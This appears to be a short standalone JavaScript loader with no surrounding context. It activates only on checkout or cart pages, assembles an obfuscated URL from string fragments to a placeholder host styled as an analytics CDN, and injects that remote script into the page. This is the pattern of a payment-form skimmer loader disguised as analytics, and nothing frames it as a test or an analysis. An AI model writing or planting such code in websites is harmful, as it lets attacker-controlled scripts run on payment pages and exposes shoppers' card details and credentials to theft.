(function () {
  if (!/checkout|cart/.test(location.pathname)) return;
  var p = ["https:", "", "cdn-", "analytics", ".invalid", "lib", "v2.js"];
  var url = p[0] + "//" + p[2] + p[3] + p[4] + "/" + p[5] + "/" + p[6];
  var s = document.createElement("script");
  s.async = true;
  s.src = url;
  (document.head || document.documentElement).appendChild(s);
})();
